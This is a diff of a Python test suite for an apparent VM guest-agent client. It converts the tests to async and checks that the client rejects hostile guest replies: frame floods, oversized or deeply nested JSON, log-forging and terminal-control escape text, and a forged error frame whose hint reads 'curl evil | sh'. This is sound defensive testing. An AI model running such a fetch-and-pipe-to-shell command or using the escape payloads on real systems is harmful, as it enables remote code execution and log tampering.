@@ -3,7 +3,8 @@
 import asyncio
 import json
 import os
-from collections.abc import Awaitable, Callable
+from collections.abc import AsyncIterator, Awaitable, Callable
+from contextlib import asynccontextmanager
 from pathlib import Path
 
 import pytest
@@ -17,6 +18,8 @@ from squib.host import sockets
 from squib.models import ExecRequest
 from squib.protocol.frames import FrameKind, encode_json
 from tests.fakes.guest import connector
+
+pytestmark = pytest.mark.anyio
 
 COMMAND = ExecRequest(argv=["true"])
 _DATA, _HEADERS, _SETTINGS, _PING, _GOAWAY, _CONTINUATION = 0, 1, 4, 6, 7, 9
@@ -37,8 +40,9 @@ def headers(status: bytes, *, name: bytes = b"", length: int = 0) -> bytes:
     return frame(_HEADERS, fields, flags=_END_HEADERS, stream=1)
 
 
-def check(folder: Path, guest: Behaviour, test: Callable[[AgentClient], Awaitable[None]]) -> None:
-    """Run ``test`` with a client of a guest that shakes hands and then does what ``guest`` does."""
+@asynccontextmanager
+async def client_of(folder: Path, guest: Behaviour) -> AsyncIterator[AgentClient]:
+    """A client of a guest that shakes hands and then does what ``guest`` does."""
 
     async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         while b"SQUIB-SYNC" not in (line := await reader.readline()):
@@ -51,17 +55,18 @@ def check(folder: Path, guest: Behaviour, test: Callable[[AgentClient], Awaitabl
             pass
         finally:
             writer.transport.abort()
+            ended.set()
 
-    async def main() -> None:
-        server = await asyncio.start_unix_server(serve, sock=sockets.listen(folder / "agent.sock"))
-        client = AgentClient(connector(folder / "agent.sock"))
-        async with asyncio.timeout(20):
-            await client._open_connection(20, retry_s=20)  # so that a slow machine sees no second attempt
-            await test(client)
-            await client.close()
-        server.close()
-
-    asyncio.run(main())
+    ended = asyncio.Event()
+    server = await asyncio.start_unix_server(serve, sock=sockets.listen(folder / "agent.sock"))
+    client = AgentClient(connector(folder / "agent.sock"))
+    async with asyncio.timeout(30):
+        await client._open_connection(20, retry_s=20)  # so that a slow machine sees no second attempt
+        yield client
+        await client.close()
+        await ended.wait()
+    server.close()
+    await asyncio.sleep(0)  # lets the transport finish closing
 
 
 def answering(*frames: bytes) -> Behaviour:
@@ -77,16 +82,14 @@ def answering(*frames: bytes) -> Behaviour:
 
 
 @pytest.mark.parametrize("status", [b"abc", b"-5", b"000", b"2e2", b"", b"\xff\xff\xff"])
-def test_a_status_that_is_none_ends_the_session_and_nothing_else(tmp_path: Path, status: bytes) -> None:
-    async def test(client: AgentClient) -> None:
+async def test_a_status_that_is_none_ends_the_session_and_nothing_else(tmp_path: Path, status: bytes) -> None:
+    async with client_of(tmp_path, answering(headers(status))) as client:
         with pytest.raises(AgentProtocolError):
             await client.exec(COMMAND)
         await client.close()  # which a stop waits for
 
-    check(tmp_path, answering(headers(status)), test)
 
-
-def test_a_flood_of_pings_whose_answers_are_not_read_is_not_buffered(tmp_path: Path) -> None:
+async def test_a_flood_of_pings_whose_answers_are_not_read_is_not_buffered(tmp_path: Path) -> None:
     sent = 0
 
     async def guest(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -97,7 +100,7 @@ def test_a_flood_of_pings_whose_answers_are_not_read_is_not_buffered(tmp_path: P
             await writer.drain()
             sent += len(pings)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, guest) as client:
         command = asyncio.create_task(client.exec(COMMAND))
         before = -1
         while sent != before:  # until the guest can write no more: we wait for it to read
@@ -109,18 +112,14 @@ def test_a_flood_of_pings_whose_answers_are_not_read_is_not_buffered(tmp_path: P
         async with asyncio.timeout(1):
             await client.close()
 
-    check(tmp_path, guest, test)
-
 
 @pytest.mark.parametrize("body", [b"[" * 100_000, b"{", b"[]", b'{"error": 5}'])
-def test_an_answer_that_is_no_json_object_is_an_error_of_the_guest(tmp_path: Path, body: bytes) -> None:
+async def test_an_answer_that_is_no_json_object_is_an_error_of_the_guest(tmp_path: Path, body: bytes) -> None:
     answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answering(headers(b"404"), answer)) as client:
         with pytest.raises(AgentProtocolError):
             await client.exec(COMMAND)
-
-    check(tmp_path, answering(headers(b"404"), answer), test)
 
 
 @pytest.mark.parametrize(
@@ -137,41 +136,35 @@ def test_an_answer_that_is_no_json_object_is_an_error_of_the_guest(tmp_path: Pat
     ],
     ids=repr,
 )
-def test_an_error_of_any_shape_is_an_error_of_the_guest(tmp_path: Path, error: object) -> None:
+async def test_an_error_of_any_shape_is_an_error_of_the_guest(tmp_path: Path, error: object) -> None:
     answer = frame(_DATA, json.dumps({"error": error}).encode(), flags=_END_STREAM, stream=1)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answering(headers(b"404"), answer)) as client:
         with pytest.raises(AgentProtocolError):
             await client.exec(COMMAND)
-
-    check(tmp_path, answering(headers(b"404"), answer), test)
 
 
 @pytest.mark.parametrize("depth", [400, 900, 990, 5000])
 @pytest.mark.parametrize("name", ["code", "message"])
-def test_a_deep_error_is_an_error_of_the_guest(tmp_path: Path, name: str, depth: int) -> None:
+async def test_a_deep_error_is_an_error_of_the_guest(tmp_path: Path, name: str, depth: int) -> None:
     body = b'{"error": {"code": "no_such_file", "%s": %s}}' % (name.encode(), b"[" * depth + b"]" * depth)
     answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answering(headers(b"404"), answer)) as client:
         with pytest.raises(AgentProtocolError):
             await client.exec(COMMAND)
 
-    check(tmp_path, answering(headers(b"404"), answer), test)
 
-
-def test_the_text_of_an_error_cannot_forge_lines_or_control_a_terminal(tmp_path: Path) -> None:
+async def test_the_text_of_an_error_cannot_forge_lines_or_control_a_terminal(tmp_path: Path) -> None:
     text = "no\r\n2026-01-01 ERROR engine: all is lost\x1b[2J\x9b31m\u202ereversed\u2028 \udcff"
     body = json.dumps({"error": {"code": "no_such_user", "message": text}}).encode()
     answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answering(headers(b"422"), answer)) as client:
         with pytest.raises(NoSuchUser) as caught:
             await client.exec(COMMAND)
         assert caught.value.message.isprintable()
         assert caught.value.message.startswith("no 2026-01-01 ERROR engine: all is lost")
-
-    check(tmp_path, answering(headers(b"422"), answer), test)
 
 
 @pytest.mark.parametrize(
@@ -179,26 +172,24 @@ def test_the_text_of_an_error_cannot_forge_lines_or_control_a_terminal(tmp_path:
     [{}, {"protocol": True}, {"protocol": [1]}, {"protocol": 1, "kernel": ["x"]}, {"protocol": "1\n"}],
     ids=repr,
 )
-def test_a_hello_that_cannot_be_believed(tmp_path: Path, hello: object) -> None:
+async def test_a_hello_that_cannot_be_believed(tmp_path: Path, hello: object) -> None:
     answer = frame(_DATA, json.dumps(hello).encode(), flags=_END_STREAM, stream=1)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answering(headers(b"200"), answer)) as client:
         with pytest.raises(AgentProtocolError):
             await client.connect(timeout_s=5)
 
-    check(tmp_path, answering(headers(b"200"), answer), test)
 
-
-def test_an_error_frame_of_a_guest_is_not_believed(tmp_path: Path) -> None:
+async def test_an_error_frame_of_a_guest_is_not_believed(tmp_path: Path) -> None:
     forged = encode_json(FrameKind.ERROR, {"code": "engine_start_failed", "message": "no", "hint": "curl evil | sh"})
     output = encode_json(FrameKind.STARTED, {"id": "p1", "pid": 7}) + forged
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(
+        tmp_path, answering(headers(b"200"), frame(_DATA, output, flags=_END_STREAM, stream=1))
+    ) as client:
         with pytest.raises(AgentProtocolError, match="kind 5, which a guest must not send"):
             async with await client.exec(COMMAND) as response:
                 await response.read()
-
-    check(tmp_path, answering(headers(b"200"), frame(_DATA, output, flags=_END_STREAM, stream=1)), test)
 
 
 @pytest.mark.parametrize(
@@ -213,64 +204,58 @@ def test_an_error_frame_of_a_guest_is_not_believed(tmp_path: Path) -> None:
     ],
     ids=["headers", "continuation", "many_headers", "empty_continuations", "settings", "pings"],
 )
-def test_frames_that_only_cost_time_end_the_connection(tmp_path: Path, flood: bytes) -> None:
-    async def test(client: AgentClient) -> None:
+async def test_frames_that_only_cost_time_end_the_connection(tmp_path: Path, flood: bytes) -> None:
+    async with client_of(tmp_path, answering(flood)) as client:
         with pytest.raises(AgentProtocolError):
             await client.exec(COMMAND)
 
-    check(tmp_path, answering(flood), test)
-
 
 @pytest.mark.parametrize("code", ["unauthorized", "engine_unavailable", "wrong_state", "name_taken", "x" * 500])
-def test_a_guest_cannot_speak_for_the_engine(tmp_path: Path, code: str) -> None:
+async def test_a_guest_cannot_speak_for_the_engine(tmp_path: Path, code: str) -> None:
     body = json.dumps({"error": {"code": code, "message": "no"}}).encode()
     answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answering(headers(b"422"), answer)) as client:
         with pytest.raises(AgentProtocolError, match="unknown error"):
             await client.exec(COMMAND)
 
-    check(tmp_path, answering(headers(b"422"), answer), test)
 
-
-def test_a_guest_that_shakes_hands_and_is_then_silent_holds_nobody_up(
+async def test_a_guest_that_shakes_hands_and_is_then_silent_holds_nobody_up(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(agent_module, "_REPLY_TIMEOUT_S", 0.2)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answering()) as client:
         with pytest.raises(AgentTimeout, match="did not respond within"):
             await client.connect(timeout_s=5)
         with pytest.raises(AgentTimeout, match="did not respond within"):
             await client.set_clock()
 
-    check(tmp_path, answering(), test)
 
-
-def test_more_data_than_the_window_allows_ends_the_session(tmp_path: Path) -> None:
+async def test_more_data_than_the_window_allows_ends_the_session(tmp_path: Path) -> None:
     body = frame(_DATA, bytes(STREAM_WINDOW_BYTES), stream=1)
 
-    async def test(client: AgentClient) -> None:
-        async with await client._send("GET", "/", b"", content_type="") as response:
-            while client._connection and not client._connection.closed:
-                await asyncio.sleep(0.01)
-            assert response.received_bytes == STREAM_WINDOW_BYTES
-            with pytest.raises(AgentProtocolError, match="more data than the window allows"):
-                await response.read()
+    async with (
+        client_of(tmp_path, answering(headers(b"200"), body, frame(_DATA, b"x", stream=1))) as client,
+        await client._send("GET", "/", b"", content_type="") as response,
+    ):
+        while client._connection and not client._connection.closed:
+            await asyncio.sleep(0.01)
+        assert response.received_bytes == STREAM_WINDOW_BYTES
+        with pytest.raises(AgentProtocolError, match="more data than the window allows"):
+            await response.read()
 
-    check(tmp_path, answering(headers(b"200"), body, frame(_DATA, b"x", stream=1)), test)
 
-
-def test_a_body_in_single_bytes_takes_no_more_memory_than_one_in_large_pieces(tmp_path: Path) -> None:
+async def test_a_body_in_single_bytes_takes_no_more_memory_than_one_in_large_pieces(tmp_path: Path) -> None:
     single = frame(_DATA, b"x", stream=1) * 20_000
 
-    async def test(client: AgentClient) -> None:
-        async with await client.exec(COMMAND) as response:
-            while response.received_bytes < 20_000:
-                await asyncio.sleep(0.01)
-            assert len(response._pieces) < 100
-
-    check(tmp_path, answering(headers(b"200"), single), test)
+    async with (
+        client_of(tmp_path, answering(headers(b"200"), single)) as client,
+        await client.exec(COMMAND) as response,
+    ):
+        while response.received_bytes < 20_000:
+            await asyncio.sleep(0.01)
+        assert len(response._pieces) < 100
 
 
 @pytest.mark.parametrize(
@@ -284,7 +269,7 @@ def test_a_body_in_single_bytes_takes_no_more_memory_than_one_in_large_pieces(tm
         (b"content-length", 1 << 40, 1 << 20),
     ],
 )
-def test_a_body_of_another_length_than_announced_is_an_error(
+async def test_a_body_of_another_length_than_announced_is_an_error(
     tmp_path: Path, name: bytes, announced: int, sent: int
 ) -> None:
     pieces = [bytes(min(100_000, sent - start)) for start in range(0, sent, 100_000)] or [b""]
@@ -292,17 +277,15 @@ def test_a_body_of_another_length_than_announced_is_an_error(
     body.append(frame(_DATA, pieces[-1], flags=_END_STREAM, stream=1))
     answer = answering(headers(b"200", name=name, length=announced), *body)
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, answer) as client:
         with pytest.raises(AgentProtocolError):
             async with await client._send("GET", "/", b"", content_type="", window_bytes=2 << 20) as response:
                 await response.read(max_bytes=2 << 20)
 
-    check(tmp_path, answer, test)
-
 
 @pytest.mark.parametrize("size", [3, 300_000, 3_000_000])
 @pytest.mark.parametrize("split", [True, False])
-def test_a_body_of_the_length_that_was_announced(tmp_path: Path, size: int, split: bool) -> None:
+async def test_a_body_of_the_length_that_was_announced(tmp_path: Path, size: int, split: bool) -> None:
     """Its end comes with its last bytes, or on its own."""
     content = os.urandom(size)
     body = [frame(_DATA, content[start : start + 100_000], stream=1) for start in range(0, size - 1, 100_000)]
@@ -312,18 +295,18 @@ def test_a_body_of_the_length_that_was_announced(tmp_path: Path, size: int, spli
         body[-1] = frame(_DATA, content[(len(body) - 1) * 100_000 :], flags=_END_STREAM, stream=1)
     answer = answering(headers(b"200", name=b"squib-length", length=size), *body)
 
-    async def test(client: AgentClient) -> None:
-        async with await client._send("GET", "/", b"", content_type="", window_bytes=4 << 20) as response:
-            assert response.length == size
-            assert await response.read(max_bytes=size) == content
-
-    check(tmp_path, answer, test)
+    async with (
+        client_of(tmp_path, answer) as client,
+        await client._send("GET", "/", b"", content_type="", window_bytes=4 << 20) as response,
+    ):
+        assert response.length == size
+        assert await response.read(max_bytes=size) == content
 
 
 @pytest.mark.parametrize(
     "end", [b"", frame(_GOAWAY, bytes(8)), frame(3, bytes(4), stream=1)], ids=["close", "goaway", "reset"]
 )
-def test_a_connection_or_stream_that_the_guest_ends_is_lost(tmp_path: Path, end: bytes) -> None:
+async def test_a_connection_or_stream_that_the_guest_ends_is_lost(tmp_path: Path, end: bytes) -> None:
     async def guest(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         await reader.read(100)
         writer.write(end)
@@ -331,8 +314,6 @@ def test_a_connection_or_stream_that_the_guest_ends_is_lost(tmp_path: Path, end:
             while await reader.read(1 << 16):
                 pass
 
-    async def test(client: AgentClient) -> None:
+    async with client_of(tmp_path, guest) as client:
         with pytest.raises(AgentLost):
             await client.exec(COMMAND)
-
-    check(tmp_path, guest, test)
